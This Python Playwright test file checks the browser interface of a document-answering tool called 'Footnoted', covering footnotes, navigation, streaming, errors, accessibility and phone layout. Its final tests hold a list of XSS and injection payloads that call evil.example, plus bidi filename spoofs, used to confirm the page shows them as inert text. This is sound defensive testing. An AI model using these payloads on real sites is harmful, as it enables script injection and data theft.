"""The page in a real Chromium: asking, reading evidence, stopping, failing, and text that attacks it."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator

import pytest
from browsing import Watched, assert_accessible
from fastapi import FastAPI
from playwright.sync_api import Page, expect
from scripted import Scripted, cite, ranked, seed_documents, sentence, told

from rag.answering.markers import blunted
from rag.conversations import Conversations
from rag.errors import ModelUnreachable
from rag.schema import AnswerEvent, CheckedText, Conflict, Document, Searched, Support
from tests.support.serving import served
from ui.interface import Asked
from ui.words import ENGLISH

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

Open = Callable[..., Watched]
Serve = Callable[[Asked], str]
Answers = tuple[str, Scripted]
DOCUMENTS = seed_documents()
FIRST, SECOND = DOCUMENTS["002_949e0a75df1a5b0d.txt"], DOCUMENTS["004_0e8a0c2e15ba0327.txt"]
CITED = [
    cite(1, FIRST, "Microsoft has announced a strategic collaboration with Elon Musk's xAI to host its Grok 3"),
    cite(2, FIRST, "Cloud platforms like Azure provide these resources, making them crucial for AI innovation"),
    cite(3, SECOND, "потенциално споразумение за 10 милиарда долара за сървъри с Oracle"),
]
SENTENCES = [sentence("Azure hosts Grok 3.", 1), sentence("It has resources.", 2), sentence("Oracle was dearer.", 3)]


def answering(question: str) -> Iterator[AnswerEvent]:
    yield from told(question, SENTENCES, CITED)


def ask(watched: Watched, question: str) -> None:
    box = watched.page.locator("#question textarea")
    box.fill(question)
    box.press("Enter")


def open_footnote(page: Page, number: int) -> None:
    """Click a footnote of a complete answer, once."""
    expect(page.locator(".fn-summary").first).to_be_visible()
    page.locator(".fn-chip").nth(number).click()
    expect(page.locator("#evidence mark").first).to_be_visible()


def assert_marked(watched: Watched, quote: str) -> None:
    mark = watched.page.locator("#evidence mark")
    expect(mark).to_have_text(quote)  # waits for it: the quote shown before may still stand there
    expect(mark).to_be_in_viewport()
    assert mark.evaluate("mark => mark.textContent") == quote


@pytest.fixture(scope="module")
def answers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Scripted]]:
    """Return the address of one page for all tests that ask for a plain answer, and its assistant."""
    from ui.page import mount

    assistant = Scripted(DOCUMENTS, answering)
    kept = Conversations.of(tmp_path_factory.mktemp("answers"))
    with served(mount(FastAPI(), assistant, kept, [ENGLISH])) as address:
        yield address, assistant


def assert_quiet(watched: Watched) -> None:
    assert watched.outside() == []
    assert watched.complaints == []
    assert watched.dialogs == []


def test_footnotes_open_their_source_at_the_quote_and_step_to_each_other(watch: Open, answers: Answers) -> None:
    watched = watch(answers[0])
    page = watched.page
    ask(watched, "Which Grok models does Azure host?")
    expect(page.locator(".fn-summary")).to_contain_text("3 of 3 sentences supported by 2 sources")
    open_footnote(page, 0)
    assert_marked(watched, CITED[0].quote)
    expect(page.locator("#evidence h2")).to_have_text(FIRST.source)
    page.get_by_role("button", name="Next footnote").click()
    expect(page.locator("#evidence mark")).to_have_text(CITED[1].quote)
    assert_marked(watched, CITED[1].quote)
    page.get_by_role("button", name="Next footnote").click()
    expect(page.locator("#evidence h2")).to_have_text(SECOND.source)
    assert_marked(watched, CITED[2].quote)
    expect(page.get_by_text("Footnote 3 of 3")).to_be_visible()
    expect(page.get_by_role("button", name="Next footnote")).to_be_disabled()
    assert_quiet(watched)


def test_back_closes_a_footnote_then_leaves_the_conversation_and_forward_undoes_both(
    watch: Open, answers: Answers
) -> None:
    watched = watch(answers[0])
    page = watched.page
    ask(watched, "Which Grok models does Azure host?")
    open_footnote(page, 0)
    page.get_by_role("button", name="Next footnote").click()
    assert_marked(watched, CITED[1].quote)
    page.go_back()
    expect(page.locator("#evidence mark")).to_have_count(0)
    expect(page.locator(".fn-chip").nth(1)).to_be_focused()
    page.go_back()
    expect(page.locator(".fn-welcome")).to_be_visible()
    page.go_forward()
    expect(page.locator(".fn-question")).to_have_count(1)
    page.go_forward()
    assert_marked(watched, CITED[1].quote)
    assert_quiet(watched)


def test_of_a_document_that_is_gone_the_quote_is_still_shown(
    watch: Open, answers: Answers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delitem(answers[1].documents, SECOND.source)
    watched = watch(answers[0])
    page = watched.page
    ask(watched, "Which Grok models does Azure host?")
    expect(page.locator(".fn-summary")).to_be_visible()
    page.locator(".fn-chip").nth(2).click()
    expect(page.locator("#evidence [role=alert]")).to_be_visible()
    expect(page.locator("#evidence blockquote")).to_have_text(CITED[2].quote)


def test_a_press_counts_when_the_answer_is_redrawn_before_it_ends(watch: Open, answers: Answers) -> None:
    watched = watch(answers[0])
    page = watched.page
    ask(watched, "Which Grok models does Azure host?")
    expect(page.locator(".fn-summary")).to_be_visible()
    page.locator(".fn-chip").nth(1).hover()
    page.mouse.down()
    page.evaluate("document.querySelectorAll('.fn-sentence').forEach(one => one.replaceWith(one.cloneNode(true)))")
    page.mouse.up()
    assert_marked(watched, CITED[1].quote)
    page.get_by_role("button", name="Next footnote").click()
    assert_marked(watched, CITED[2].quote)
    assert_quiet(watched)


def test_every_chip_on_the_page_is_a_footnote(watch: Open, answers: Answers) -> None:
    watched = watch(answers[0])
    expect(watched.page.locator(".fn-chip")).to_have_count(0)
    ask(watched, "Which Grok models does Azure host?")
    expect(watched.page.locator(".fn-summary")).to_be_visible()
    watched.page.locator(".fn-chip").last.click()
    assert_marked(watched, CITED[2].quote)


def test_the_keyboard_alone_asks_opens_closes_and_comes_back(watch: Open, answers: Answers) -> None:
    watched = watch(answers[0])
    page = watched.page
    expect(page.locator("#question textarea")).to_be_focused()
    page.keyboard.type("Which Grok models does Azure host?")
    page.keyboard.press("Enter")
    expect(page.locator(".fn-summary")).to_be_visible()
    chip = page.locator(".fn-chip").nth(1)
    chip.focus()
    expect(page.locator("#fn-tip")).to_contain_text(CITED[1].quote)
    page.keyboard.press("Enter")
    assert_marked(watched, CITED[1].quote)
    expect(page.locator("#evidence h2")).to_be_focused()
    page.keyboard.press("Alt+ArrowLeft")
    expect(page.locator("#evidence mark")).to_have_text(CITED[0].quote)
    page.keyboard.press("Escape")
    expect(page.locator("#evidence mark")).to_have_count(0)
    expect(page.locator(".fn-chip").nth(0)).to_be_focused()
    assert_quiet(watched)


def test_a_footnotes_address_can_be_shared(watch: Open, answers: Answers) -> None:
    first = watch(answers[0])
    ask(first, "Which Grok models does Azure host?")
    open_footnote(first.page, 2)
    assert_marked(first, CITED[2].quote)
    assert_marked(watch(first.page.url), CITED[2].quote)


def test_sentences_appear_as_they_come_and_stop_ends_the_answer(watch: Open, page_of: Serve) -> None:
    more, end = threading.Event(), threading.Event()

    def slowly(question: str) -> Iterator[AnswerEvent]:
        events = told(question, SENTENCES, CITED)
        yield from events[:2]
        more.wait(30)
        yield events[2]
        end.wait(30)
        # Nothing new, over and over: only being closed ends this answer, whenever the word to stop arrives.
        while True:
            yield events[0]
            threading.Event().wait(0.2)

    assistant = Scripted(DOCUMENTS, slowly)
    watched = watch(page_of(assistant))
    page = watched.page
    ask(watched, "Which Grok models does Azure host?")
    expect(page.locator(".fn-sentence")).to_have_count(1)
    page.locator("#question textarea").fill("what I type meanwhile")
    more.set()
    expect(page.locator(".fn-sentence")).to_have_count(2)
    expect(page.locator("#question textarea")).to_have_value("what I type meanwhile")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("Stopped.")).to_be_visible()
    end.set()
    assert assistant.stopped.wait(30)
    expect(page.locator(".fn-sentence")).to_have_count(2)
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    assert_quiet(watched)


def test_a_model_that_fails_is_told_and_can_be_tried_again(watch: Open, page_of: Serve) -> None:
    def failing(question: str) -> Iterator[AnswerEvent]:
        yield Searched(question, ())
        raise ModelUnreachable("the model gave no connection: start it and try again")

    assistant = Scripted(DOCUMENTS, failing)
    watched = watch(page_of(assistant))
    ask(watched, "Which Grok models does Azure host?")
    expect(watched.page.get_by_role("alert")).to_contain_text("the model gave no connection")
    assistant.script = answering
    watched.page.get_by_role("button", name="Try again").click()
    expect(watched.page.locator(".fn-summary")).to_contain_text("3 of 3")
    expect(watched.page.locator(".fn-exchange")).to_have_count(1)
    assert_quiet(watched)


def test_a_suggestion_asks_a_new_conversation_brings_it_back_and_choices_are_passed_on(
    watch: Open, answers: Answers
) -> None:
    address, assistant = answers
    assistant.asked.clear()
    watched = watch(address)
    page = watched.page
    page.get_by_role("tab", name="Settings").click()
    page.get_by_label("Strict").check()
    page.get_by_role("tab", name="Ask").click()
    page.get_by_role("button", name="Which Grok models does Azure host?").click()
    expect(page.locator(".fn-sentence")).to_have_count(3)
    page.get_by_role("button", name="Conversations", exact=True).click()
    page.get_by_role("button", name="New conversation").click()
    expect(page.get_by_role("button", name="Which Grok models does Azure host?")).to_be_visible()
    assert assistant.asked == [("Which Grok models does Azure host?", [], "extractive", True)]
    assert_quiet(watched)


def test_a_pasted_text_is_checked_sentence_by_sentence(watch: Open, page_of: Serve) -> None:
    doubtful = sentence("It costs 30 dollars.", support=Support.UNSUPPORTED, reason="no passage states a price")
    assistant = Scripted(DOCUMENTS, answering, CheckedText((SENTENCES[0], doubtful), tuple(CITED[:1])))
    watched = watch(page_of(assistant))
    page = watched.page
    page.get_by_role("tab", name="Check my text").click()
    page.locator("#pasted textarea").fill("Azure hosts Grok 3. It costs 30 dollars.")
    page.get_by_role("button", name="Check", exact=True).click()
    expect(page.locator("#verdicts .fn-summary")).to_contain_text("1 of 2 sentences supported")
    expect(page.locator("#verdicts")).to_contain_text("no passage states a price")
    page.locator("#verdicts .fn-chip").click()
    assert_marked(watched, CITED[0].quote)
    assert_quiet(watched)


def test_documents_are_listed_and_open_beside_the_list(watch: Open, answers: Answers) -> None:
    watched = watch(answers[0])
    page = watched.page
    page.get_by_role("tab", name="Documents").click()
    expect(page.locator("#documents tbody tr")).to_have_count(len(DOCUMENTS))
    page.get_by_role("link", name=SECOND.source).click()
    expect(page.locator("#evidence .fn-document")).to_contain_text("Microsoft Azure е готов")
    assert_quiet(watched)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_shows_the_panel_below_and_nothing_too_wide(watch: Open, answers: Answers, scheme: str) -> None:
    size = {"width": 390, "height": 844}
    watched = watch(answers[0], viewport=size, color_scheme=scheme)
    page = watched.page
    ask(watched, "Which Grok models does Azure host?")
    expect(page.locator(".fn-summary")).to_be_visible()
    open_footnote(page, 2)
    assert_marked(watched, CITED[2].quote)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    below = page.evaluate(
        "document.querySelector('#evidence').getBoundingClientRect().top"
        " - document.querySelector('#composer').getBoundingClientRect().bottom"
    )
    assert below >= 0
    assert page.evaluate("document.body.classList.contains('dark')") == (scheme == "dark")
    assert_quiet(watched)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_axe_finds_no_violation_in_any_state(watch: Open, page_of: Serve, scheme: str, width: int) -> None:
    conflict = Conflict("announced or only planned", (1, 3))
    doubtful = sentence("It costs 30 dollars.", 2, support=Support.UNSUPPORTED, reason="no passage states a price")
    contradicted = sentence("It costs 3 dollars.", 2, support=Support.CONTRADICTED, reason="the passage says 10")
    partly = sentence("It costs.", 2, support=Support.PARTLY_SUPPORTED, reason="the passage says that it may")
    said = [*SENTENCES, doubtful, contradicted, partly]

    def mixed(question: str) -> Iterator[AnswerEvent]:
        if "fail" in question:
            raise ModelUnreachable("the model gave no connection: start it and try again")
        yield from told(question, said, CITED, conflicts=(conflict,), notes=("a note",), searched_for="Grok")

    checked = CheckedText(tuple(said), tuple(CITED))
    assistant = Scripted(DOCUMENTS, mixed, checked, notices=["No model: set OPENAI_API_KEY."])
    watched = watch(page_of(assistant), viewport={"width": width, "height": 844}, color_scheme=scheme)
    page = watched.page
    assert_accessible(page)
    ask(watched, "What does it cost?")
    expect(page.locator(".fn-summary")).to_be_visible()
    open_footnote(page, 0)
    expect(page.locator("#evidence mark")).to_be_in_viewport()
    ask(watched, "please fail")
    expect(page.get_by_role("alert")).to_be_visible()
    assert_accessible(page)
    open_tab(page, "Check my text")
    page.locator("#pasted textarea").fill("It costs 30 dollars.")
    page.get_by_role("button", name="Check", exact=True).click()
    expect(page.locator("#verdicts .fn-summary")).to_be_visible()
    assert_accessible(page)
    open_tab(page, "Documents")
    expect(page.locator("#documents tbody tr").first).to_be_visible()
    assert_accessible(page)
    for name, shown in (("Compare", "#compare"), ("Settings", "#languages")):
        open_tab(page, name)
        expect(page.locator(shown)).to_be_visible()
        assert_accessible(page)


def open_tab(page: Page, name: str) -> None:
    """Open a tab; on a narrow page some stand behind the button "More tabs"."""
    tab = page.get_by_role("tab", name=name)
    if tab.count():
        tab.click()
        return
    page.get_by_role("button", name="More tabs").click()
    page.locator(".overflow-dropdown").get_by_role("button", name=name).click()


HOSTILE = "\n".join(
    (
        "<script>fetch('https://evil.example/script')</script>",
        "<img src=https://evil.example/pixel.png onerror=alert('img')>",
        '<svg onload=alert("svg")><image href="https://evil.example/svg.png"/></svg>',
        "<form action=https://evil.example/><input name=key autofocus onfocus=alert('focus')>",
        "<button>Log in</button></form>",
        "<iframe src=https://evil.example/frame></iframe><object data=https://evil.example/o></object>",
        "<a href=javascript:alert('link')>click</a> [click](javascript:alert(1)) ![p](https://evil.example/md.png)",
        "<style>@import url(https://evil.example/style.css)</style><base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/l.css>",
        '<meta http-equiv=refresh content="0;url=https://evil.example/">',
        "\u202egnp.exe\u202c \u2066hidden\u2069 ${alert('template')} {{constructor.constructor('alert(1)')()}} `${1}`",
        "</mark></div></section></template><!-- [1][2] (3) --> &lt;img src=x onerror=alert(1)&gt;",
        "\"' onmouseover='alert(1)",
        "x" * 1_000_000,
    )
)
HOSTILE_NAME = "<img src=x onerror=alert('name')>\u202etxt.exe\"'#&source=other.txt"


def test_hostile_documents_answers_and_names_are_only_text(watch: Open, page_of: Serve) -> None:
    document = Document(HOSTILE_NAME, HOSTILE, title=HOSTILE[:300], language='en" onload="alert(1)')
    start = 20
    cited = cite(1, document, HOSTILE[start:2000])
    attack = sentence(HOSTILE[:1500], 1, support=Support.PARTLY_SUPPORTED, reason=HOSTILE[:500])
    events = told(
        HOSTILE[:1000], [attack], [cited], searched_for=HOSTILE[:600], notes=(HOSTILE[:600],), model=HOSTILE[:200]
    )
    assistant = Scripted(
        {document.source: document}, lambda _: iter(events), CheckedText((attack,), (cited,)), notices=[HOSTILE[:700]]
    )
    watched = watch(page_of(assistant))
    page = watched.page
    ask(watched, HOSTILE[:1000])
    expect(page.locator(".fn-summary")).to_be_visible()
    open_footnote(page, 0)
    expect(page.locator("#evidence mark")).to_be_in_viewport()
    assert page.locator("#evidence mark").evaluate("mark => mark.textContent") == cited.quote
    assert page.locator(".fn-sentence p > span").first.evaluate("one => one.textContent") == blunted(attack.text)
    page.locator(".fn-chip").first.hover()
    page.get_by_role("tab", name="Check my text").click()
    page.locator("#pasted textarea").fill(HOSTILE[:1000])
    page.get_by_role("button", name="Check", exact=True).click()
    expect(page.locator("#verdicts .fn-sentence")).to_have_count(1)
    page.get_by_role("tab", name="Documents").click()
    expect(page.locator("#documents tbody tr")).to_have_count(1)
    page.locator("#documents a").click()
    expect(page.locator("#evidence .fn-document")).to_contain_text("evil.example/script")
    planted = "#shelf-list, #past, #current, #side-left, #verdicts, #documents, #evidence, #degraded"
    inert = page.locator(planted).locator("script, img, form, input, iframe, object, style, link, base, meta, image")
    expect(inert).to_have_count(0)
    assert page.evaluate("document.title") == "Footnoted"
    assert_quiet(watched)


def test_an_abstention_shows_the_nearest_passages_and_opens_them(watch: Open, page_of: Serve) -> None:
    nearest = (ranked(FIRST, 0, 120),)

    def abstaining(question: str) -> Iterator[AnswerEvent]:
        yield from told(question, [], [], abstained=True, text="The documents do not say.", nearest=nearest)

    watched = watch(page_of(Scripted(DOCUMENTS, abstaining)))
    ask(watched, "What does it cost?")
    expect(watched.page.locator(".fn-abstained")).to_contain_text("The documents do not say.")
    watched.page.locator(".fn-nearest a").click()
    assert_marked(watched, FIRST.text[:120])
    assert re.search(r"#source=002_949e0a75df1a5b0d\.txt&start=0&end=120&", watched.page.url)
    assert_quiet(watched)
